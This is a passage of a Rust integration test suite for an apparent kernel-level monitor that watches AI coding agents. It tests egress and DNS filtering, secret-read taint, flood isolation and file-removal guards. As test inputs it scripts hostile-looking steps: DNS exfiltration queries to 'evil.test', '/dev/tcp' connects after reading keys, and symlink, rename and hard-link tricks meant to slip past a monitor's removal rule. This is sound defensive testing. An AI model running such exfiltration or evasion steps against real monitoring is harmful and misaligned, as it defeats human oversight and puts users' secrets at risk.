        ("api", format!("ok addr={t1}")),
        ("cname", format!("ok addr={t2}")),
        // Names are matched without regard to case.
        ("upper", format!("ok addr={t1}")),
        // Port 53 of anything but the configured resolver is refused.
        ("resolver", "err EPERM".to_owned()),
        // A UDP query dropped at egress fails its send; over TCP the
        // segment never arrives and the server gives up on the stream.
        ("evil", "err EPERM".to_owned()),
        ("exfil", "err ENODATA".to_owned()),
        ("bind", "err EPERM".to_owned()),
        ("tcp", format!("ok addr={t1}")),
        ("again", "ok".to_owned()),
        ("expired", "err EPERM".to_owned()),
        ("tainted", "err EPERM".to_owned()),
    ];
    for (k, v) in &want {
        assert_eq!(
            line(&agent, k),
            v,
            "{k}: agent output:\n{agent}\n{}",
            d.log()
        );
    }
    let seen = dns.seen();
    assert!(seen.iter().any(|n| n == "api.agent.test"), "{seen:?}");
    assert!(seen.iter().any(|n| n == "mirror.pkg.test"), "{seen:?}");
    assert!(
        !seen
            .iter()
            .any(|n| n == "evil.test" || n == exfil || n == split),
        "a dropped query reached the server: {seen:?}"
    );
    assert!(line(&agent, "split").starts_with("err"), "{agent}");
    // The sibling agent: its own lookups work, the other agent's do not.
    let sib = run_with_evade(
        "dns-sibling",
        true,
        &format!(
            "{GOT} echo \"other $(got evade connect {t2} 8080)\"; \
            echo \"api $(got evade dns-connect {gw} api.agent.test 8080)\""
        ),
    );
    assert_eq!(line(&sib, "other"), "err EPERM", "{sib}");
    assert_eq!(line(&sib, "api"), format!("ok addr={t1}"), "{sib}");
    // The unlabelled container is untouched.
    let plain = run_with_evade("dns-plain", false, &script);
    for k in ["hard", "again", "expired", "tainted", "bind"] {
        assert!(line(&plain, k).starts_with("ok"), "{k}: {plain}");
    }
    assert_eq!(line(&plain, "evil"), format!("ok addr={t3}"), "{plain}");
    let a = d.wait_alert("agent-egress", |a| {
        a["event"]["kind"] == "dns"
            && a["event"]["dns"]["name"] == exfil
            && a["result"]["outcome"] == "denied"
    });
    let m = a["decision"]["message"].as_str().unwrap_or_default();
    assert!(m.contains(exfil) && m.contains("dropped"), "{a}");
    assert_eq!(a["event"]["dns"]["tcp"], true, "{a}");
    assert_eq!(a["event"]["identity"]["agent"]["name"], "claude", "{a}");
    d.wait_alert("agent-egress", |a| {
        a["event"]["kind"] == "dns" && a["event"]["dns"]["name"] == "evil.test"
    });
    d.wait_alert("agent-egress", |a| {
        a["event"]["kind"] == "connect"
            && a["event"]["net"]["addr"] == t2.to_string()
            && a["result"]["outcome"] == "denied"
    });
    // Allowed connects raise nothing.
    assert!(
        !d.alerts()
            .iter()
            .any(|a| a["decision"]["rule"] == "agent-egress"
                && a["event"]["kind"] == "connect"
                && a["result"]["outcome"] != "denied"),
        "{:?}",
        d.alerts()
    );
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// Removes a Docker network when dropped.
struct NetworkGuard(String);

impl Drop for NetworkGuard {
    fn drop(&mut self) {
        let _ = Command::new("docker")
            .args(["network", "rm", &self.0])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

/// On a user-defined network, containers resolve through Docker's
/// embedded DNS at 127.0.0.11, whose port 53 the kernel rewrites (nat
/// OUTPUT) before the egress program sees the packet. The query is still
/// judged by its socket: an agent reaches the container whose name is
/// listed, its query for another container's name is refused, and an
/// unlabelled container resolves both. Only container names are asked
/// (Docker answers them itself; nothing leaves the host).
#[test]
fn dockers_embedded_dns_on_a_user_defined_network_is_judged_too() {
    let Some(_g) = ready() else { return };
    let pid = std::process::id();
    let net = format!("agtest-dnsnet-{pid}");
    common::docker(&["network", "create", &net]);
    let _net = NetworkGuard(net.clone());
    let mut guards = Vec::new();
    let mut names = Vec::new();
    for t in ["t1", "t2"] {
        let name = format!("agtest-dnsnet-{t}-{pid}");
        guards.push(common::ContainerGuard(name.clone()));
        common::docker(&[
            "run",
            "-d",
            "--name",
            &name,
            "--network",
            &net,
            common::TEST_IMAGE,
            "busybox",
            "httpd",
            "-f",
            "-p",
            "8080",
        ]);
        names.push(name);
    }
    let dir = std::env::temp_dir().join(format!("agtest-dnsnetpol-{pid}"));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(
        dir.join("net.yaml"),
        format!(
            "name: egress\nrules:\n  - name: agent-egress\n    kinds: [connect, send]\n    match: {{ agent: any }}\n    when:\n      dest: {{ cidrs: [0.0.0.0/0, \"::/0\"] }}\n      except: {{ loopback: true, domains: [{}] }}\n    action: deny\n    severity: high\n    message: \"{{comm}} ({{agent}}) connected to {{addr}}:{{port}}\"\n",
            names[0]
        ),
    )
    .expect("write policy");
    let d = Daemon::start(&dir, "dnsnet");
    let evade = common::evade::evade_bin();
    let mount = format!("{}:/bin/evade:ro", evade.display());
    let script = format!(
        "{GOT} echo \"listed $(got evade dns-connect 127.0.0.11 {} 8080)\"; \
        echo \"other $(got evade dns-query 127.0.0.11 {})\"",
        names[0], names[1]
    );
    let mut outs = Vec::new();
    for agent in [true, false] {
        let name = format!(
            "agtest-dnsnet-{}-{pid}",
            if agent { "agent" } else { "plain" }
        );
        let _c = common::ContainerGuard(name.clone());
        let mut args = vec![
            "--name",
            name.as_str(),
            "--network",
            net.as_str(),
            "-v",
            mount.as_str(),
        ];
        if agent {
            args.extend(["--label", "agentguard.io/agent=claude"]);
        }
        args.extend([common::TEST_IMAGE, "sh", "-c", script.as_str()]);
        outs.push(docker_run(&args));
    }
    let (agent, plain) = (&outs[0], &outs[1]);
    assert!(
        line(agent, "listed").starts_with("ok addr="),
        "{agent}\n{}",
        d.log()
    );
    assert_eq!(line(agent, "other"), "err EPERM", "{agent}");
    assert!(line(plain, "listed").starts_with("ok addr="), "{plain}");
    assert!(line(plain, "other").starts_with("ok addr="), "{plain}");
    d.wait_alert("agent-egress", |a| {
        a["event"]["kind"] == "dns" && a["event"]["dns"]["name"] == names[1].as_str()
    });
    d.stop();
    cleanup();
    drop(guards);
    let _ = std::fs::remove_dir_all(&dir);
}

/// Flood isolation: two agent containers unlink in tight loops (a record
/// each, for the removal rule to look at) while a third agent container
/// reads a key once. Once the daemon falls behind, the flooders lose their
/// own records past their quota, in the kernel: the ring buffer never
/// overflows, the reader's read is alerted, and the flood is alerted
/// naming each flooding agent.
#[test]
fn a_flooding_agent_loses_its_own_events_not_everyone_elses() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-flood-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("pol")).expect("mkdir");
    std::fs::write(
        dir.join("pol/fl.yaml"),
        "name: fl\nrules:\n  - name: key-read\n    kinds: [open]\n    match: { agent: any }\n    when: { path: [\"/keys/**\"] }\n    action: alert\n    severity: high\n    message: \"{comm} read {path}\"\n  - name: data-rm\n    kinds: [unlink]\n    match: { agent: any }\n    when: { path: [\"/data/**\"] }\n    action: alert\n    severity: high\n    message: \"{comm} removed {path}\"\n",
    )
    .expect("write policy");
    let quota = std::env::var("AGENTGUARD_TEST_FLOOD_QUOTA").ok();
    let config = quota.map(|q| format!("flood_quota: {q}\n"));
    let d = Daemon::start_with(&dir.join("pol"), "flood", config.as_deref());
    let lost_before = d.counters()["events_lost"].as_u64().unwrap_or(0);
    let evade = common::evade::evade_bin();
    let mount = format!("{}:/bin/evade:ro", evade.display());
    let mut guards = Vec::new();
    for n in ["flooder1", "flooder2"] {
        let name = format!("agtest-{n}-{}", std::process::id());
        guards.push(common::ContainerGuard(name.clone()));
        common::docker(&[
            "run",
            "-d",
            "--name",
            &name,
            "--label",
            &format!("agentguard.io/agent={n}"),
            "-v",
            &mount,
            common::TEST_IMAGE,
            "sh",
            "-c",
            "sleep 1; evade unlink-flood /tmp/nothing 8",
        ]);
    }
    // The floods are on before the reader reads.
    std::thread::sleep(Duration::from_secs(3));
    let reader = format!("agtest-reader-{}", std::process::id());
    let _rg = common::ContainerGuard(reader.clone());
    let out = docker_run(&[
        "--name",
        &reader,
        "--label",
        "agentguard.io/agent=reader",
        "-v",
        &mount,
        common::TEST_IMAGE,
        "sh",
        "-c",
        "mkdir -p /keys; echo k > /keys/id_rsa; evade open /keys/id_rsa",
    ]);
    assert!(out.contains("ok bytes="), "{out}");
    d.wait_alert("key-read", |a| {
        a["event"]["identity"]["agent"]["name"] == "reader"
            && a["event"]["file"]["path"] == "/keys/id_rsa"
    });
    // The flooders' records never filled the ring buffer for the others.
    let lost = d.counters()["events_lost"].as_u64().unwrap_or(0) - lost_before;
    assert_eq!(lost, 0, "records lost in the ring buffer during the flood");
    // What the flood alerts say: the subject, the kind, how many.
    for n in ["flooder1", "flooder2"] {
        let flood = d.wait_alert("flood", |a| a["event"]["identity"]["agent"]["name"] == n);
        let f = &flood["event"]["flood"];
        assert_eq!(flood["event"]["kind"], "flood", "{flood}");
        assert!(f["total"].as_u64().is_some_and(|n| n > 0), "{flood}");
        assert!(
            f["dropped"]["unlink"].as_u64().is_some_and(|n| n > 0),
            "{flood}"
        );
        assert!(
            flood["decision"]["message"]
                .as_str()
                .is_some_and(|m| m.contains(&format!("agent {n}"))),
            "{flood}"
        );
    }
    let flooded = wait_counter_at_least(&d, "events_flooded", 1);
    let events = d.counters()["events"].as_u64().unwrap_or(0);
    eprintln!("flood: {events} events taken, {flooded} records of the flooders dropped in the kernel, none lost");
    // The reader was never taken for a flooder.
    assert!(
        !d.alerts().iter().any(|a| a["decision"]["rule"] == "flood"
            && a["event"]["identity"]["agent"]["name"] == "reader"),
        "{:?}",
        d.alerts()
    );
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// Spawns `bash -c script` as pid `pid` (through ns_last_pid; other
/// processes may take the pid first, so it retries); None if it never got
/// the pid. Returns bash's stderr.
fn run_as_pid(pid: u32, script: &str) -> Option<String> {
    for _ in 0..200 {
        std::fs::write("/proc/sys/kernel/ns_last_pid", format!("{}", pid - 1))
            .expect("write ns_last_pid");
        let child = Command::new("bash")
            .args(["-c", script])
            .stderr(Stdio::piped())
            .spawn()
            .expect("bash");
        let got = child.id();
        let out = child.wait_with_output().expect("bash output");
        if got == pid {
            return Some(String::from_utf8_lossy(&out.stderr).into_owned());
        }
    }
    None
}

/// A tainted host agent dies while no daemon runs: the pinned connect hook
/// keeps the taint of its pid, but a new process that gets the same pid
/// does not inherit it (it started after the daemon's last heartbeat), and
/// a restarted daemon drops the dead process's entry on adoption.
#[test]
fn a_reused_pid_does_not_inherit_a_dead_processs_taint() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-reuse-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("pol")).expect("mkdir");
    std::fs::create_dir_all(dir.join("secret")).expect("mkdir");
    std::fs::write(dir.join("secret/key"), "k\n").expect("key");
    std::fs::write(
        dir.join("pol/t.yaml"),
        format!(
            "name: t\nrules:\n  - name: secret-read\n    kinds: [open]\n    match: {{ agent: any }}\n    when: {{ path: [\"{}/secret/**\"] }}\n    action: alert\n    taint: true\n    severity: high\n    message: \"{{comm}} read {{path}}\"\n",
            dir.display()
        ),
    )
    .expect("write policy");
    let d = Daemon::start(&dir.join("pol"), "reuse");
    let tcp = "echo > /dev/tcp/127.0.0.1/9";
    let claude = write_host_agent(
        &dir,
        &format!(
            "sleep 1; cat {}/secret/key >/dev/null; bash -c '{tcp}'; echo tainted; exec sleep 60",
            dir.display()
        ),
    );
    let mut agent = Command::new(&claude)
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .expect("run agent");
    let pid = agent.id();
    d.wait_alert("secret-read", |a| a["event"]["kind"] == "open");
    let tainted_pid = |d: &Daemon| {
        d.status()["tainted"]
            .as_array()
            .is_some_and(|t| t.iter().any(|t| t.to_string().contains(&format!("{pid}"))))
    };
    let deadline = Instant::now() + Duration::from_secs(10);
    while !tainted_pid(&d) {
        assert!(Instant::now() < deadline, "{}", d.status());
        std::thread::sleep(Duration::from_millis(200));
    }
    // No daemon; the process dies; its pid comes back to someone else.
    d.kill9();
    let _ = agent.kill();
    let err = agent.wait_with_output().expect("agent");
    assert!(
        String::from_utf8_lossy(&err.stderr).contains("Operation not permitted"),
        "the agent was not tainted: {}",
        String::from_utf8_lossy(&err.stderr)
    );
    // The pinned hook counts the daemon gone 10 s after its last heartbeat.
    std::thread::sleep(Duration::from_secs(11));
    let e = run_as_pid(pid, tcp).expect("pid reused");
    assert!(
        e.contains("Connection refused"),
        "pid {pid} reused while no daemon ran inherited the dead agent's taint: {e}"
    );
    // A restarted daemon adopts the maps and drops the dead agent's entry:
    // with it running (heartbeat fresh), the new pid-holder still connects.
    let d = Daemon::start(&dir.join("pol"), "reuse2");
    assert!(d.log().contains("gone (or pids reused)"), "{}", d.log());
    std::thread::sleep(Duration::from_millis(1500));
    assert!(!tainted_pid(&d), "{}", d.status());
    let e = run_as_pid(pid, tcp).expect("pid reused");
    assert!(e.contains("Connection refused"), "after adoption: {e}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// One action, one alert: a host agent reads a key itself and through
/// five `cat`s, then reads another key once. The first key's six opens are
/// one alert (count, span, pids, the agent and its tools as actors); the
/// other key is an alert of its own. Two more reads of the key after its
/// window (within the repeat hold, 4 s here) are held and come as one
/// summary when the hold ends.
#[test]
fn one_action_of_an_agent_is_one_alert() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-group-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("pol")).expect("mkdir");
    std::fs::create_dir_all(dir.join("secret")).expect("mkdir");
    std::fs::write(dir.join("secret/key"), "k\n").expect("key");
    std::fs::write(dir.join("secret/other"), "k\n").expect("key");
    std::fs::write(
        dir.join("pol/g.yaml"),
        format!(
            "name: g\nrules:\n  - name: secret-read\n    kinds: [open]\n    match: {{ agent: any }}\n    when: {{ path: [\"{}/secret/**\"] }}\n    action: alert\n    severity: high\n    message: \"{{comm}} read {{path}}\"\n",
            dir.display()
        ),
    )
    .expect("write policy");
    let d = Daemon::start_with(&dir.join("pol"), "group", Some("alert_repeat_ms: 4000\n"));
    let key = dir.join("secret/key");
    let body = format!(
        "sleep 1; read x < {k}; for i in 1 2 3 4 5; do cat {k} >/dev/null; done; cat {o} >/dev/null; \
         sleep 1.5; cat {k} >/dev/null; sleep 0.5; cat {k} >/dev/null; echo done",
        k = key.display(),
        o = dir.join("secret/other").display()
    );
    let out = run_host_agent(&dir, &body);
    assert!(out.contains("done"), "{out}");
    let first = d.wait_alert("secret-read", |a| {
        a["event"]["file"]["path"] == key.to_str().unwrap_or_default()
    });
    d.wait_alert("secret-read", |a| {
        a["event"]["file"]["path"]
            .as_str()
            .is_some_and(|p| p.ends_with("/secret/other"))
    });
    let of_key = || {
        d.alerts()
            .into_iter()
            .filter(|a| a["event"]["file"]["path"] == key.to_str().unwrap_or_default())
            .collect::<Vec<_>>()
    };
    assert_eq!(of_key().len(), 1, "one alert for the key: {:?}", d.alerts());
    // The repeats: nothing until the hold ends, then one summary of two.
    let deadline = Instant::now() + Duration::from_secs(15);
    while of_key().len() < 2 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(200));
    }
    let all = of_key();
    assert_eq!(all.len(), 2, "the repeats: {all:#?}");
    assert_eq!(all[1]["group"]["count"], 2, "{:#}", all[1]);
    let g = &first["group"];
    assert_eq!(g["count"], 6, "{first}");
    assert!(
        g["pids"].as_array().is_some_and(|p| p.len() == 6),
        "{first}"
    );
    assert!(
        g["last_ts_ns"].as_u64() > g["first_ts_ns"].as_u64(),
        "{first}"
    );
    // The agent read it first, itself; then its tools.
    assert_eq!(first["actor"], "agent", "{first}");
    assert_eq!(g["actors"], serde_json::json!(["agent", "tool"]), "{first}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// One agent container run over `vol` at /data; returns its output.
/// `host_usr`: with the host's /usr read-only (for git), as in the real
/// agent tests.
fn agent_in_volume(tag: &str, vol: &Path, host_usr: bool, script: &str) -> String {
    let name = format!("agtest-{tag}-{}", std::process::id());
    let _guard = common::ContainerGuard(name.clone());
    let data = format!("{}:/data", vol.display());
    let mut args = vec![
        "--name",
        name.as_str(),
        "--label",
        "agentguard.io/agent=claude",
        "-v",
        data.as_str(),
    ];
    if host_usr {
        args.extend(["-v", "/usr:/usr:ro", "-v", "/usr/lib:/lib:ro"]);
        args.extend(["-v", "/usr/lib64:/lib64:ro"]);
    }
    args.extend([common::TEST_IMAGE, "sh", "-c", script]);
    docker_run(&args)
}

/// `volume-removal` guards what was in the volume, not what the agent
/// made there itself: a lock or temp file it created (git's index.lock)
/// goes, in the kernel's judgement of the file's dentry and inode. Each
/// way to pass another file off as an own one is killed: renaming a
/// volume file over an own name, moving the own file's directory away and
/// putting a symlink to another directory in its place, re-linking a
/// volume file at a freed own name, and another container's own file.
#[test]
fn own_files_in_a_volume_may_be_removed_and_nothing_else() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "own");
    let vol = volume("own", 4);
    std::fs::create_dir_all(vol.join("p")).expect("mkdir");
    std::fs::write(vol.join("p/x"), b"data").expect("write");
    // The way in: create and remove own files, the way editors, build
    // tools and git do (absolute paths, plain and O_EXCL creates, and a
    // rename of an own file in between).
    let ok = agent_in_volume(
        "own-ok",
        &vol,
        false,
        "sleep 1; for i in 1 2 3; do echo l > /data/own.lock && rm /data/own.lock || exit 9; done; \
         set -C; echo t > /data/tmp.$$ && rm /data/tmp.$$; set +C; \
         echo a > /data/new.tmp && mv /data/new.tmp /data/saved && echo b > /data/other.tmp && \
         rm /data/other.tmp && echo own=ok",
    );
    assert!(ok.contains("own=ok"), "own files were not let go: {ok}");
    // Ways around: each must die at its rm.
    let tries = [
        (
            "rename-over",
            "echo o > /data/x; mv /data/f000 /data/x; rm /data/x",
        ),
        (
            "dir-swap",
            "mkdir /data/d; echo o > /data/d/x; mv /data/d /data/d2; ln -s /data/p /data/d; rm /data/d/x",
        ),
        (
            "relink",
            "echo o > /data/y; rm /data/y; ln /data/f001 /data/y; rm /data/y",
        ),
    ];
    for (tag, script) in tries {
        let out = agent_in_volume(
            &format!("own-{tag}"),
            &vol,
            false,
            &format!("sleep 1; {script}; echo rm=$?"),
        );
        assert!(
            !out.contains("rm=0"),
            "{tag}: a volume file was removed as the agent's own: {out}"
        );
        d.wait_alert("volume-removal", |a| {
            a["result"]["outcome"] == "killed"
                && a["event"]["identity"]["container"]["info"]["name"]
                    .as_str()
                    .is_some_and(|n| n.contains(&format!("own-{tag}")))
        });
    }
    // Another container's own file is not this one's.
    let made = agent_in_volume(
        "own-maker",
        &vol,
        false,
        "sleep 1; echo m > /data/theirs; echo made",
    );
    assert!(made.contains("made"), "{made}");
    let out = agent_in_volume(
        "own-other",
        &vol,
        false,
        "sleep 1; rm /data/theirs; echo rm=$?",
    );
    assert!(
        !out.contains("rm=0"),
        "another container's file went as own: {out}"
    );
    d.wait_alert("volume-removal", |a| {
        a["event"]["identity"]["container"]["info"]["name"]
            .as_str()
            .is_some_and(|n| n.contains("own-other"))
    });
    // git in the volume: its index.lock comes and goes (the container
    // benign session's former false positive).
    let git = agent_in_volume(
        "own-git",
        &vol,
        true,
        "sleep 1; cd /data && git init -q repo && cd repo && echo a > f && git add f && \
         git -c user.email=t@t -c user.name=t commit -qm m && \
         for i in 1 2 3 4 5; do touch f; git status --short >/dev/null || exit 9; git diff --quiet; done; echo git=ok",
    );
    let own_alerts: Vec<_> = d
        .alerts()
        .into_iter()
        .filter(|a| {
            a["event"]["identity"]["container"]["info"]["name"]
                .as_str()
                .is_some_and(|n| n.contains("own-ok") || n.contains("own-git"))
        })
        .collect();
    assert!(own_alerts.is_empty(), "alerts on own files: {own_alerts:?}");
    assert!(git.contains("git=ok"), "git in the volume failed: {git}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&vol);
}

/// An agent installed under /tmp (its user's choice) does not raise
/// `exec-from-temp` by starting (`actor: tool` in the pack); a program it
/// runs from /tmp does, and the alert says a tool of it acted.
#[test]
fn an_agent_started_from_tmp_is_not_exec_from_temp_but_what_it_runs_is() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agtest-tmpagent-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    let d = Daemon::start(&pack(), "tmpagent");
    let payload = dir.join("payload");
    let out = run_host_agent(
        &dir,
        &format!(
            "sleep 1; cp /bin/true {p}; {p} && echo ran",
            p = payload.display()
        ),
    );
    assert!(out.contains("ran"), "{out}");
    let a = d.wait_alert("exec-from-temp", |a| {
        a["event"]["exec"]["file"]["path"] == payload.display().to_string()
    });
    assert_eq!(a["actor"], "tool", "{a}");
    assert_eq!(a["event"]["identity"]["agent"]["name"], "claude", "{a}");
    // The agent's own start came first; give a late alert time anyway.
    std::thread::sleep(Duration::from_secs(1));
    let own: Vec<_> = d
        .alerts()
        .into_iter()
        .filter(|a| {
            a["decision"]["rule"] == "exec-from-temp"
                && a["event"]["exec"]["file"]["path"]
                    .as_str()
                    .is_some_and(|p| p.ends_with("/claude"))
        })
        .collect();
    assert!(own.is_empty(), "the agent's own start alerted: {own:#?}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}
